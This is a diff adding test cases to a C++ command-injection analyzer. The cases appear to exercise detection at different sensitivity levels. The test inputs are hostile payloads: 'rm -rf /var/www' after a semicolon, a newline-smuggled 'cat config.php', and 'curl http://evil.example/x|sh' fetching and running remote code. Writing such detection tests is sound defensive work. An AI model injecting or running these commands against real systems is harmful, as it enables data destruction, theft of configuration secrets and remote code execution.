@@ -131,6 +131,11 @@ constexpr Case kCases[] = {
      "low"},
     {"", make_cmd_injection_analyzer, kBody, "m", "x;rm -rf /var/www #CRON[", "low"},
     {"", make_cmd_injection_analyzer, kBody, "m", "x;rm -rf /var/www #CRON[1]: (root) CMD (x)", "low"},
+    {"lines behind a value", make_cmd_injection_analyzer, kQuery, "host",
+     "127.0.0.1\ncat config.php\n:", "balanced"},
+    {"", make_cmd_injection_analyzer, kQuery, "host", "x;\ncurl http://evil.example/x|sh\n:", "low"},
+    {"", make_cmd_injection_analyzer, kBody, "m", "To install:\ncurl http://a.example/x | sh\nDone.",
+     "strict"},
     {"lines of source", make_cmd_injection_analyzer, kBody, "m",
      "Get-ChildItem -Path C:\\Logs -Filter *.log |\n  Sort-Object Length |\n  Remove-Item -WhatIf |\n  "
      "Out-Null",
